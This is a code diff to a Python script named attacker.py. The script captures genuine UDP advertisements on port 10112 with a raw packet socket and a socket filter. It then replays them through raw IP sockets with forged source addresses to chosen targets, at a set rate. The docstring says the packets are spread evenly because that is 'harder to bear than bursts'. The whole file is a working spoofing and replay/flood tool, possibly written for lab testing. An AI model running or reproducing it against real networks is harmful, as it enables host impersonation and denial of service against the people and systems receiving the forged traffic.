@@ -1,20 +1,19 @@
 """Records genuine advertisements and sends whatever it likes from any address; standard library only.
 
     attacker.py record FILE                      what this machine itself sends to the port, until it is ended
-    attacker.py send FILE SOURCE TARGET[,TARGET] COUNT RATE
-                                                 the datagrams of FILE in turn, to each target, as if SOURCE had sent them
+    attacker.py send FILE COUNT RATE SOURCE>TARGET...
+                                                 datagrams of FILE in turn, to each target as if the source had sent them
 
 A file holds records: nanoseconds of the wall clock, length, datagram. `record` prints a line once it listens, `send` a line
-with the packets to each target and the seconds it took. COUNT 0 is the length of FILE, RATE 0 as fast as possible.
+with the packets to each target and the seconds it took. They are spread evenly: that is harder to bear than bursts.
 """
 
-import select
+import ctypes
 import socket
 import struct
 import sys
 import time
 from collections.abc import Iterable
-from contextlib import suppress
 from pathlib import Path
 
 PORT = 10112
@@ -22,7 +21,6 @@ RECORD = struct.Struct("!QH")
 UDP = struct.Struct("!HHHH")
 ALL_PROTOCOLS = 3  # ETH_P_ALL: the only one that sees what leaves
 ATTACH_FILTER, TIMESTAMP = 26, 35
-TICK = 0.0
 
 
 def read(path: Path) -> list[tuple[int, bytes]]:
@@ -61,11 +59,8 @@ def outgoing() -> bytes:
 def record(path: Path) -> None:
     link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
     code = outgoing()
-    held = bytearray(code)
-    import ctypes
-
-    address = ctypes.addressof((ctypes.c_char * len(held)).from_buffer(held))
-    link.setsockopt(socket.SOL_SOCKET, ATTACH_FILTER, struct.pack("@HxxxxxxP", len(code) // 8, address))
+    held = ctypes.create_string_buffer(code, len(code))
+    link.setsockopt(socket.SOL_SOCKET, ATTACH_FILTER, struct.pack("@HP", len(code) // 8, ctypes.addressof(held)))
     link.setsockopt(socket.SOL_SOCKET, TIMESTAMP, 1)
     link.bind(("eth0", ALL_PROTOCOLS))
     print("recording", flush=True)
@@ -85,22 +80,18 @@ def packet(datagram: bytes, source: str, target: str) -> bytes:
     return struct.pack("!BBHHHBBH", 0x45, 0xC0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0) + addresses + udp
 
 
-def send(path: Path, source: str, targets: list[str], count: int, rate: float) -> None:
-    datagrams = [datagram for _, datagram in read(path)]
-    count = count or len(datagrams)
-    rounds = [[(packet(one, source, target), (target, 0)) for target in targets] for one in datagrams]
+def send(path: Path, count: int, rate: float, ways: list[str]) -> None:
+    ends = [way.split(">") for way in ways]
+    rounds = [[(packet(one, source, target), (target, 0)) for source, target in ends] for _, one in read(path)]
     link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
     began = time.monotonic()
     sent = 0
     while sent < count:
-        due = min(count, int((time.monotonic() - began) * rate) + 1) if rate else count
-        for number in range(sent, due):
-            for data, target in rounds[number % len(rounds)]:
+        if sent <= (time.monotonic() - began) * rate:
+            for data, target in rounds[sent % len(rounds)]:
                 link.sendto(data, target)
-        sent = due
-        if rate and sent < count:
-            select.select((), (), (), TICK)
+            sent += 1
     print(sent, time.monotonic() - began, flush=True)
 
 
@@ -109,10 +100,9 @@ def main() -> None:
     if what == "record":
         record(Path(file))
     else:
-        source, targets, count, rate = rest
-        send(Path(file), source, targets.split(","), int(count), float(rate))
+        count, rate, *ways = rest
+        send(Path(file), int(count), float(rate), ways)
 
 
 if __name__ == "__main__":
-    with suppress(KeyboardInterrupt):
-        main()
+    main()
